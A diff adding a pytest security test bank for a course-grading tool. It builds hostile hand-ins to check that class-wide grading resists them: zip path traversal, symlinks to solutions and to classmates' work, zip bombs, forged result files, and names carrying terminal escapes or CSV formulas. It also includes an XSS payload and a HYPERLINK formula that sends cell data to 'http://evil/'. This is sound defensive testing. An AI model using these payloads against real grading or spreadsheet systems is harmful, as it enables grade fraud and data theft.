@@ -1,0 +1,713 @@
+"""A blind attack bank on the class-level paths (issue 39), written without reading the other banks.
+
+Each attack is a concrete hand-in (files, an archive, a notebook, a YAML answers file, an id, a
+roster name) and the property it tries to break:
+
+* (a) the class run stops, or an honest classmate's grade goes missing or wrong;
+* (b) a grade for work not done (another's grade, the reference or the key, forged results);
+* (c) an output that lies or injects (a CSV formula, Markdown or HTML, a terminal escape or rich
+  markup, a path out of the output folder);
+* (d) unbounded time, memory or disk.
+
+The class paths: ``seqlab grade-all`` (one class holding every attack beside honest students,
+graded once with ``--no-labs --only optimizers.sgd``: the run is the unit under attack, each test
+reads its own property from it), ``seqlab exam grade-all`` (one class of answers files, likewise),
+nbgrader's hand-in reading and export (``seqlab.nbgrader.autograde``'s own stages, in process),
+the Gradescope upload reader and the GitHub gradebook job (``seqlab.classroom``).
+
+An attack that breaks its property is marked ``xfail(strict=True)`` with what breaks: the bank
+stays green and says honestly what is left.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import shutil
+import socket
+import stat
+import struct
+import subprocess
+import sys
+import time
+import unicodedata
+import zipfile
+from pathlib import Path
+
+import pytest
+
+pytestmark = [pytest.mark.bank, pytest.mark.slow]
+
+ROOT = Path(__file__).resolve().parents[2]
+HONEST = ROOT / "tests" / "student" / "honest_submissions"
+PY = sys.executable
+ONLY = "optimizers.sgd"  # the narrowest grading: each graded hand-in takes a few seconds
+FULL = 2.0  # optimizers.sgd's points
+ESC = "\x1b"
+# A place out of every output folder an attack tries to write to (path traversal, absolute paths).
+CANARY = Path("/tmp/seqlab-blind-canary-39")
+
+
+def _honest_optimizers() -> bytes:
+    return (HONEST / "terse" / "exercises" / "optimizers.py").read_bytes()
+
+
+def _honest(folder: Path, style: str = "terse") -> None:
+    shutil.copytree(HONEST / style, folder)
+
+
+def _zip(path: Path, members: list) -> Path:
+    """A zip of ``members``: (name, bytes) or (ZipInfo, bytes)."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in members:
+            zf.writestr(name, data)
+    return path
+
+
+def _link_member(name: str, target: str) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name)
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    info.create_system = 3
+    return info, target.encode()  # type: ignore[return-value]
+
+
+def _special_member(name: str, mode: int) -> tuple[zipfile.ZipInfo, bytes]:
+    info = zipfile.ZipInfo(name)
+    info.external_attr = (mode | 0o644) << 16
+    info.create_system = 3
+    return info, b""
+
+
+def _patch(path: Path, old: bytes, new: bytes, count: int = -1) -> None:
+    data = path.read_bytes()
+    assert old in data
+    path.write_bytes(data.replace(old, new, count))
+
+
+# =================================================================================================
+# grade-all: one class holding every attack beside honest students
+# =================================================================================================
+# name -> (builder(class_dir) -> the entry handed in, property kind)
+GA: dict = {}
+
+
+def ga(name):
+    def register(fn):
+        GA[name] = fn
+        return fn
+
+    return register
+
+
+@ga("zip-symlink-member-to-reference")
+def _(c: Path):  # (b) a link member pointing at the course's reference solution
+    return _zip(
+        c / "m01.zip",
+        [_link_member("exercises/optimizers.py", str(ROOT / "solutions" / "exercises" / "optimizers.py"))],
+    )
+
+
+@ga("zip-dotdot-member-into-classmate")
+def _(c: Path):  # (b)(c) overwrite alice's copy / write out of the scratch folder
+    return _zip(
+        c / "m02.zip",
+        [("exercises/optimizers.py", b"def sgd(w, dw, state, lr=1e-2):\n    return w, {}\n"),
+         ("../../alice/exercises/optimizers.py", b"raise SystemExit\n"),
+         ("exercises/../../../seqlab-blind-canary-39/x.py", b"x")],
+    )  # fmt: skip
+
+
+@ga("zip-absolute-member")
+def _(c: Path):  # (c) an absolute path member
+    return _zip(c / "m03.zip", [(f"{CANARY}/abs.py", b"x"), ("exercises/optimizers.py", b"")])
+
+
+@ga("zip-backslash-and-drive-members")
+def _(c: Path):  # (c) Windows-style traversal: ..\\..\\x and C:/x
+    return _zip(c / "m04.zip", [("..\\..\\seqlab-blind-canary-39\\w.py", b"x"), ("C:/evil.py", b"x")])
+
+
+@ga("zip-file-and-folder-of-one-name")
+def _(c: Path):  # (a) a member both a file and a folder
+    return _zip(c / "m05.zip", [("exercises/optimizers.py", b"x = 1\n"), ("exercises/optimizers.py/rnn.py", b"")])
+
+
+@ga("zip-duplicate-entries")
+def _(c: Path):  # (a) one name twice: a reader must pick one, never stop
+    with pytest.warns(UserWarning):
+        _zip(c / "m06.zip", [("exercises/optimizers.py", b"x = 1\n"), ("exercises/optimizers.py", b"y = 2\n")])
+    return c / "m06.zip"
+
+
+@ga("zip-bomb-nested")
+def _(c: Path):  # (d) 3 x 64 MB of zeros in a few hundred KB, one level nested
+    inner = c.parent / "bomb-inner.zip"
+    zeros = b"\0" * (64 << 20)
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        for i in range(3):
+            zf.writestr(f"z{i}.bin", zeros)
+    return _zip(c / "m07.zip", [("notes/inner.zip", inner.read_bytes())])
+
+
+@ga("zip-nested-four-deep")
+def _(c: Path):  # (d) zip in zip in zip in zip with the module file at the bottom
+    data = _zip(c.parent / "n0.zip", [("exercises/optimizers.py", _honest_optimizers())]).read_bytes()
+    for level in range(1, 4):
+        data = _zip(c.parent / f"n{level}.zip", [(f"level{level}.zip", data)]).read_bytes()
+    (c / "m08.zip").write_bytes(data)
+    return c / "m08.zip"
+
+
+@ga("zip-encrypted-entry")
+def _(c: Path):  # (a) the encryption flag set on a member
+    path = _zip(c / "m09.zip", [("exercises/optimizers.py", _honest_optimizers())])
+    data = bytearray(path.read_bytes())
+    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
+        at = data.find(sig)
+        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
+        data[flag_at] |= 1
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip64-locator-lie")
+def _(c: Path):  # (a)(d) an end record claiming 0xFFFF entries, a zip64 record claiming 2**40
+    path = _zip(c / "m10.zip", [("exercises/optimizers.py", b"x = 1\n")])
+    data = path.read_bytes()
+    eocd = data.rfind(b"PK\x05\x06")
+    cd_offset = struct.unpack_from("<I", data, eocd + 16)[0]
+    z64 = struct.pack(
+        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, len(data) - cd_offset, cd_offset
+    )
+    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd, 1)
+    end = bytearray(data[eocd:])
+    struct.pack_into("<HH", end, 8, 0xFFFF, 0xFFFF)
+    path.write_bytes(data[:eocd] + z64 + locator + bytes(end))
+    return path
+
+
+@ga("zip-central-and-local-names-differ")
+def _(c: Path):  # (c) the central directory says one name, the local header another
+    path = _zip(c / "m11.zip", [("exercises/optimizers.py", b"x = 1\n")])
+    data = bytearray(path.read_bytes())
+    at = data.find(b"PK\x03\x04")
+    data[at + 30 : at + 30 + len("exercises/optimizers.py")] = b"../../seqlab-blind-canary"
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip-utf8-flag-invalid-bytes-and-escape-name")
+def _(c: Path):  # (a)(c) a name flagged UTF-8 that is not, and a name that is a terminal escape
+    path = _zip(c / "m12.zip", [("exercises/AAAA.py", b"x"), ("exercises/BBBBBBBBBB.py", b"y")])
+    _patch(path, b"AAAA", b"\xff\xfe\xc3\x28")
+    _patch(path, b"BBBBBBBBBB", b"\x1b]0;pwn\x07\x1b[")
+    data = bytearray(path.read_bytes())
+    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = 0
+        while (at := data.find(sig, start)) >= 0:
+            data[at + off + 1] |= 0x08  # bit 11: the name is UTF-8
+            start = at + 4
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip-truncated-mid-deflate")
+def _(c: Path):  # (a) cut in the middle of its member's data
+    path = _zip(c / "m13.zip", [("exercises/optimizers.py", _honest_optimizers() * 50)])
+    path.write_bytes(path.read_bytes()[:300])
+    return path
+
+
+@ga("zip-corrupt-deflate-stream")
+def _(c: Path):  # (a) a valid directory over a damaged deflate stream
+    path = _zip(c / "m14.zip", [("exercises/optimizers.py", _honest_optimizers() * 20)])
+    data = bytearray(path.read_bytes())
+    for i in range(60, 200):
+        data[i] ^= 0x5A
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip-unknown-compression-method")
+def _(c: Path):  # (a) method 99 (AES) on a member
+    path = _zip(c / "m15.zip", [("exercises/optimizers.py", _honest_optimizers())])
+    data = bytearray(path.read_bytes())
+    for sig, off in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
+        at = data.find(sig)
+        struct.pack_into("<H", data, at + off, 99)
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip-fifo-and-device-members")
+def _(c: Path):  # (d) a FIFO member named like the module file, a device beside it
+    return _zip(
+        c / "m16.zip",
+        [_special_member("exercises/optimizers.py", stat.S_IFIFO), _special_member("exercises/tty", stat.S_IFCHR)],
+    )
+
+
+@ga("zip-20001-entries-claimed")
+def _(c: Path):  # (d) an end record claiming 65,535 entries over a tiny archive
+    path = _zip(c / "m17.zip", [("exercises/optimizers.py", b"x = 1\n")])
+    data = bytearray(path.read_bytes())
+    eocd = data.rfind(b"PK\x05\x06")
+    struct.pack_into("<HH", data, eocd + 8, 65535, 65535)
+    path.write_bytes(bytes(data))
+    return path
+
+
+@ga("zip-thousand-deep-member")
+def _(c: Path):  # (a) a member 1000 folders deep
+    return _zip(c / "m18.zip", [("/".join(["d"] * 1000) + "/optimizers.py", b"x"), ("exercises/optimizers.py", b"")])
+
+
+@ga("folder-symlink-exercises-to-classmate")
+def _(c: Path):  # (b) exercises -> ../alice/exercises
+    (c / "m19").mkdir()
+    (c / "m19" / "exercises").symlink_to("../alice/exercises")
+    return c / "m19"
+
+
+@ga("entry-itself-a-symlink-to-classmate")
+def _(c: Path):  # (b) the hand-in is a link to alice's folder
+    (c / "m20").symlink_to("alice")
+    return c / "m20"
+
+
+@ga("fifo-in-exercises")
+def _(c: Path):  # (d) a FIFO beside the module files: reading it blocks for ever
+    _honest(c / "m21")
+    os.mkfifo(c / "m21" / "exercises" / "cache.fifo")
+    return c / "m21"
+
+
+@ga("socket-in-exercises")
+def _(c: Path):  # (d) a Unix socket in exercises/
+    _honest(c / "m22")
+    sock = socket.socket(socket.AF_UNIX)
+    sock.bind(str(c / "m22" / "exercises" / "s"))
+    sock.close()
+    return c / "m22"
+
+
+@ga("sparse-8gb-module-file")
+def _(c: Path):  # (d) an 8 GB sparse file standing as a module file
+    (c / "m23" / "exercises").mkdir(parents=True)
+    with open(c / "m23" / "exercises" / "rnn.py", "wb") as handle:
+        handle.truncate(8 << 30)
+    (c / "m23" / "exercises" / "optimizers.py").write_bytes(_honest_optimizers())
+    return c / "m23"
+
+
+@ga("folder-2000-deep")
+def _(c: Path):  # (a) a 2000-deep tree beside the exercises
+    _honest(c / "m24")
+    deep = c / "m24"
+    fd = os.open(deep, os.O_RDONLY)
+    for _ in range(2000):  # made relative to a descriptor: the path itself is too long for one call
+        os.mkdir("d", dir_fd=fd)
+        new = os.open("d", os.O_RDONLY, dir_fd=fd)
+        os.close(fd)
+        fd = new
+    os.close(fd)
+    return c / "m24"
+
+
+def _remove_deep(top: Path) -> None:
+    """Take a deep chain of ``d`` folders down one level at a time (shutil.rmtree, and pytest's
+    own clean-up of old temporary folders, recurse once per level and stop at Python's limit)."""
+    while (top / "d").is_dir():
+        if (top / "d" / "d").is_dir():
+            os.rename(top / "d" / "d", top / "d-next")
+            os.rmdir(top / "d")
+            os.rename(top / "d-next", top / "d")
+        else:
+            shutil.rmtree(top / "d")
+
+
+@ga("forged-results-in-hand-in")
+def _(c: Path):  # (b) a hand-in carrying results.json, status.json and seqlab_result.json that claim full marks
+    (c / "m25" / "exercises").mkdir(parents=True)
+    (c / "m25" / "exercises" / "optimizers.py").write_text("def sgd(w, dw, state, lr=1e-2):\n    return w, {}\n")
+    forged = {"status": "graded", "score": 2, "max_score": 2, "tests": []}
+    for name in ("results.json", "status.json", "seqlab_result.json"):
+        (c / "m25" / name).write_text(json.dumps(forged))
+        (c / "m25" / "exercises" / name).write_text(json.dumps(forged))
+    (c / "m25" / "exercises" / "__pycache__").mkdir()
+    (c / "m25" / "exercises" / "__pycache__" / "optimizers.cpython-311.pyc").write_bytes(b"\0" * 64)
+    return c / "m25"
+
+
+@ga("name-newline-forges-a-row")
+def _(c: Path):  # (c) a name holding a newline and a forged CSV row
+    entry = c / "m26\nbob,graded,2,2,100.0"
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-terminal-escape")
+def _(c: Path):  # (c) OSC title, clear-screen and a colour in a folder name
+    entry = c / "m27\x1b]0;owned\x07\x1b[2J\x1b[31mred"
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-rtl-override")
+def _(c: Path):  # (c) U+202E: "m28 yp.exe" shown reversed
+    entry = c / "m28\u202eexe.py"
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-rich-markup")
+def _(c: Path):  # (c) rich markup that closes the caller's tag and styles the rest
+    entry = c / "[bold red]m29[blink][link=http:x]\\"
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-csv-formula")
+def _(c: Path):  # (c) a formula as the folder name
+    entry = c / '=HYPERLINK("http:\u2215\u2215x",1)+m30'
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-250-chars")
+def _(c: Path):  # (a) a 250-character name: any name derived from it must still be writable
+    entry = c / ("m31" + "x" * 247)
+    _honest(entry)
+    return entry
+
+
+@ga("name-not-utf8")
+def _(c: Path):  # (a) a name in Latin-1 bytes
+    entry = Path(os.fsdecode(bytes(c) + b"/m32-\xe9l\xe8ve"))
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text("")
+    return entry
+
+
+@ga("name-of-gradebook")
+def _(c: Path):  # (a)(b) a zip named gradebook.csv.zip, a folder named lms, one named _submissions
+    for name in ("lms", "_submissions", "class_report.html", "similarity"):
+        (c / name / "exercises").mkdir(parents=True)
+        (c / name / "exercises" / "optimizers.py").write_text("")
+    return _zip(c / "gradebook.csv.zip", [("exercises/optimizers.py", b"")])
+
+
+@ga("name-of-a-derived-name")
+def _(c: Path):  # (b) squat the name grade-all derives for another entry ("zed." -> zed+<hash>)
+    import hashlib
+
+    (c / "zed." / "exercises").mkdir(parents=True)
+    (c / "zed." / "exercises" / "optimizers.py").write_bytes(_honest_optimizers())
+    squat = c / f"zed+{hashlib.sha256(b'zed.').hexdigest()[:12]}"
+    (squat / "exercises").mkdir(parents=True)
+    (squat / "exercises" / "optimizers.py").write_text("")
+    return squat
+
+
+@ga("nfc-nfd-twins")
+def _(c: Path):  # (a) "josé" composed and decomposed: two students, two rows
+    _honest(c / unicodedata.normalize("NFC", "josé"))
+    (c / unicodedata.normalize("NFD", "josé") / "exercises").mkdir(parents=True)
+    (c / unicodedata.normalize("NFD", "josé") / "exercises" / "optimizers.py").write_text("")
+    return c / unicodedata.normalize("NFD", "josé")
+
+
+@ga("exception-message-injects-reports")
+def _(c: Path):  # (c) the code's own error message: Markdown, HTML, ANSI and rich markup
+    entry = c / "m35"
+    (entry / "exercises").mkdir(parents=True)
+    (entry / "exercises" / "optimizers.py").write_text(
+        "def sgd(w, dw, state, lr=1e-2):\n"
+        "    raise ValueError('\\x1b]0;pwn\\x07\\x1b[2J\\n# 2 / 2 (100%)\\n**2 / 2 (100%)** "
+        '<img src=x onerror=alert(1)> [/][bold]x =HYPERLINK("http://x")\')\n'
+    )
+    return entry
+
+
+@ga("honest-alice-zip-squats-victim-name")
+def _(c: Path):  # (a) mallory hands in "vic.zip" beside honest "vic/": vic's LMS row loses her grade
+    _honest(c / "vic", "oop")
+    return _zip(c / "vic.zip", [("exercises/optimizers.py", b"")])
+
+
+@ga("casefold-twin-of-victim")
+def _(c: Path):  # (a) "ſam" (long s) folds to "sam": the honest sam loses her name in the LMS files
+    _honest(c / "sam", "functional")
+    (c / "ſam" / "exercises").mkdir(parents=True)
+    (c / "ſam" / "exercises" / "optimizers.py").write_text("")
+    return c / "ſam"
+
+
+@ga("fifo-named-like-a-zip")
+def _(c: Path):  # (d) a FIFO "m38.zip" in the class folder
+    os.mkfifo(c / "m38.zip")
+    return c / "m38.zip"
+
+
+# Who each attack tries to cost its grade, beside alice and bob (graded in every run).
+VICTIMS = {"honest-alice-zip-squats-victim-name": "vic", "casefold-twin-of-victim": "sam", "nfc-nfd-twins": None}
+
+BROKEN_GA = {
+    "name-rtl-override": "grade-all's 'renamed:' line prints a hand-in's name with its U+202E "
+    "(right-to-left override) raw to the console: what the instructor reads is reordered",
+    "honest-alice-zip-squats-victim-name": "a hand-in named vic.zip beside honest vic/ renames both: "
+    "vic's grade is filed under vic+<hash>, and the roster's vic gets no grade in lms/canvas.csv",
+    "casefold-twin-of-victim": "a folder ſam folds to sam: honest sam is renamed sam+<hash> and the "
+    "roster's sam gets no grade in lms/canvas.csv",
+}
+
+
+@pytest.fixture(scope="module")
+def class_run(tmp_path_factory):
+    base = tmp_path_factory.mktemp("blind-class")
+    shutil.rmtree(CANARY, ignore_errors=True)
+    c = base / "class"
+    c.mkdir()
+    _honest(c / "alice", "terse")
+    _honest(c / "bob", "oop")
+    try:
+        entries = {name: build(c) for name, build in GA.items()}
+        roster = base / "roster.csv"
+        roster.write_text(
+            "Student,ID,SIS User ID,SIS Login ID,Section\n"
+            "Alice,1,s1,alice,A\n"
+            '"=HYPERLINK(""http://evil/?""&A1,""Bob"")",2,s2,bob,A\n'
+            '"Vic\r\n\x1b[31m",3,s3,vic,A\n'
+            "Sam,4,s4,sam,A\n"
+        )
+        started = time.monotonic()
+        done = subprocess.run(
+            [PY, "-m", "seqlab", "grade-all", str(c), "--out", str(base / "out"), "--no-labs", "--only", ONLY,
+             "--seed", "3", "--jobs", "2", "--lms-roster", str(roster), "--timeout", "240"],
+            capture_output=True, timeout=900, cwd=base, env={**os.environ, "COLUMNS": "200"},
+        )  # fmt: skip
+        seconds = time.monotonic() - started
+        out = base / "out"
+        statuses = {}
+        for status in out.glob("*/status.json"):
+            data = json.loads(status.read_text(encoding="utf-8"))
+            statuses[data["source"]] = data
+        rows = []
+        if (out / "gradebook.csv").is_file():
+            with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
+                rows = list(csv.DictReader(handle))
+        yield {
+            "base": base,
+            "class": c,
+            "out": out,
+            "entries": entries,
+            "done": done,
+            "stdout": done.stdout.decode("utf-8", "replace"),
+            "stderr": done.stderr.decode("utf-8", "replace"),
+            "rows": {r["submission"]: r for r in rows},
+            "statuses": statuses,
+            "seconds": seconds,
+        }
+    finally:  # never leave a 2000-deep tree behind: it stops pytest's own clean-up
+        _remove_deep(c / "m24")
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _text_outputs(out: Path):
+    for top, dirs, files in os.walk(out):
+        dirs[:] = [d for d in dirs if d != "_submissions"]
+        for file in files:
+            path = Path(top, file)
+            if path.suffix in (".csv", ".md", ".html", ".txt", ".json", ".xml"):
+                yield path, path.read_text(encoding="utf-8", errors="replace")
+
+
+def _graded_full(run, name):
+    row = run["rows"].get(name)
+    assert row is not None, (name, sorted(run["rows"]))
+    assert row["status"] == "graded" and float(row["total"]) == FULL, row
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_GA[n])) if n in BROKEN_GA else n for n in GA],
+)
+def test_grade_all_attack_costs_only_its_own_row(class_run, attack):
+    run = class_run
+    both = run["stdout"] + run["stderr"]
+    assert "Traceback" not in both, run["stderr"][-3000:]
+    assert run["seconds"] < 600
+    # the class ran to its end: the gradebook and the LMS files exist, the honest students graded
+    out = run["out"]
+    for name in ("gradebook.csv", "lms/canvas.csv", "lms/moodle.csv", "lms/roster_check.txt"):
+        assert (out / name).is_file(), name
+    for honest in ("alice", "bob"):
+        _graded_full(run, honest)
+    # nothing written out of the output folder
+    assert not CANARY.exists()
+    for folder in (run["base"], run["out"], run["class"], run["base"].parent):
+        assert not list(folder.glob("seqlab-blind-canary*")), folder
+    entry = run["entries"][attack]
+    if attack in NOT_HAND_INS:  # skipped, unread, and said so
+        assert "m38.zip" in both
+        return
+    status = run["statuses"].get(str(entry))
+    assert status is not None, f"{entry!r} has no row"
+    name = status["name"]
+    assert name in run["rows"], (name, sorted(run["rows"]))
+    ATTACK_CHECKS.get(attack, _not_full)(run, attack, name)
+
+
+def _outputs_clean(run, *, esc=False, rtl=False, markdown=False, formula=False):
+    """No output of the run (the console, every file written) carries what the attack put in
+    its name or message: a terminal escape, a bidirectional override, raw HTML or Markdown that
+    forges a score, a CSV formula. Each attack checks its own: they share one run."""
+    both = run["stdout"] + run["stderr"]
+    needles = [ESC] * esc + ["\u202e"] * rtl
+    for needle in needles:
+        assert needle not in both, [line for line in both.splitlines() if needle in line]
+    for path, text in _text_outputs(run["out"]):
+        for needle in needles:
+            assert needle not in text, path
+        if markdown and path.suffix in (".md", ".html"):
+            assert "<img" not in text, path
+        if markdown and path.suffix == ".md":
+            assert "**2 / 2 (100%)**" not in text, path
+            assert not re.search(r"^#+ 2 / 2", text, re.M), path
+        if formula and path.suffix == ".csv":
+            for cells in csv.reader(text.splitlines()):
+                for cell in cells:
+                    lead = cell.lstrip(" ")[:1]
+                    assert not lead or lead not in "=+@\uff1d\uff0b\uff20" or re.fullmatch(r"[+-]?[\d.]+", cell), (
+                        path,
+                        cell,
+                    )
+
+
+def _check_clean(**what):
+    def check(run, attack, name):
+        _not_full(run, attack, name)
+        _outputs_clean(run, **what)
+
+    return check
+
+
+def _check_rich(run, attack, name):
+    _not_full(run, attack, name)
+    assert "[bold red]m29[blink][link=http:x]" in run["stdout"], run["stdout"][-2000:]
+
+
+def _not_full(run, attack, name):
+    """A hand-in that holds no honest work (a link, a forged file, a broken archive) gets no points."""
+    row = run["rows"][name]
+    if row["status"] == "graded":
+        assert float(row["total"]) < FULL, row
+    else:
+        assert row["reason"], row
+
+
+def _check_lms_victim(victim):
+    def check(run, attack, name):
+        _not_full(run, attack, name)
+        vic = [r for n, r in run["rows"].items() if n == victim or n.startswith(victim + "+")]
+        assert any(r["status"] == "graded" and float(r["total"]) == FULL for r in vic), vic
+        with open(run["out"] / "lms" / "canvas.csv", newline="", encoding="utf-8") as handle:
+            canvas = {r["SIS Login ID"]: r for r in csv.DictReader(handle)}
+        assert canvas[victim]["seqlab"] == f"{FULL:g}", canvas[victim]
+
+    return check
+
+
+def _check_graded_full(run, attack, name):
+    _graded_full(run, name)
+
+
+def _check_nfc_nfd(run, attack, name):
+    _not_full(run, attack, name)
+    nfc = run["statuses"][str(run["class"] / unicodedata.normalize("NFC", "josé"))]
+    assert nfc["name"] != name
+    _graded_full(run, nfc["name"])
+
+
+def _check_squat(run, attack, name):
+    _not_full(run, attack, name)
+    zed = run["statuses"][str(run["class"] / "zed.")]
+    assert zed["name"] != name
+    _graded_full(run, zed["name"])
+
+
+def _check_reserved(run, attack, name):
+    _not_full(run, attack, name)
+    for entry in ("lms", "_submissions", "class_report.html", "similarity"):
+        assert run["statuses"][str(run["class"] / entry)]["name"] not in ("lms", "_submissions", "class_report.html")
+    assert (run["out"] / "class_report.html").is_file()
+
+
+def _check_newline(run, attack, name):
+    _not_full(run, attack, name)
+    text = (run["out"] / "gradebook.csv").read_text(encoding="utf-8")
+    assert sum(1 for line in text.splitlines() if line.startswith("bob,")) == 1
+
+
+def _check_message(run, attack, name):
+    row = run["rows"][name]
+    assert row["status"] == "graded" and float(row["total"]) == 0, row
+    _outputs_clean(run, esc=True, markdown=True, formula=True)
+
+
+def _check_bounded(seconds):
+    def check(run, attack, name):
+        _not_full(run, attack, name)
+        assert run["statuses"][str(run["entries"][attack])]["seconds"] < seconds
+
+    return check
+
+
+ATTACK_CHECKS = {
+    "honest-alice-zip-squats-victim-name": _check_lms_victim("vic"),
+    "casefold-twin-of-victim": _check_lms_victim("sam"),
+    "nfc-nfd-twins": _check_nfc_nfd,
+    "name-of-a-derived-name": _check_squat,
+    "name-of-gradebook": _check_reserved,
+    "name-newline-forges-a-row": _check_newline,
+    "exception-message-injects-reports": _check_message,
+    "name-terminal-escape": _check_clean(esc=True),
+    "name-rtl-override": _check_clean(rtl=True),
+    "name-rich-markup": _check_rich,
+    "name-csv-formula": _check_clean(formula=True),
+    "zip-utf8-flag-invalid-bytes-and-escape-name": _check_clean(esc=True),
+    "folder-2000-deep": _check_graded_full,
+    "name-250-chars": _check_graded_full,
+    "zip-nested-four-deep": _not_full,
+    "zip-bomb-nested": _check_bounded(30),
+    "sparse-8gb-module-file": _check_bounded(30),
+    "fifo-in-exercises": _check_bounded(30),
+}
+NOT_HAND_INS = {"fifo-named-like-a-zip"}
+
+
+@pytest.mark.parametrize("who", ["formula-display-name", "line-break-and-escape-display-name"])
+def test_grade_all_roster_display_names_are_text(class_run, who):
+    """(c) A roster display name is the student's own text: ``=HYPERLINK(...)`` (bob) and a line
+    break with an escape (vic) reach lms/canvas.csv and roster_check.txt as text on one line."""
+    lms = class_run["out"] / "lms"
+    canvas = (lms / "canvas.csv").read_text(encoding="utf-8")
+    check = (lms / "roster_check.txt").read_text(encoding="utf-8")
+    rows = list(csv.reader(canvas.splitlines()))
+    assert len({len(r) for r in rows}) == 1, rows  # no row broken in two
+    if who == "formula-display-name":
+        bob = next(r for r in rows if "bob" in r)
+        assert bob[0].startswith("'=HYPERLINK"), bob
+        assert bob[-1] == f"{FULL:g}", bob
+    else:
+        assert ESC not in canvas and ESC not in check and "\r" not in canvas
+        vic = [r for r in rows if "vic" in r]
+        assert len(vic) == 1 and vic[0][0].startswith("Vic"), vic
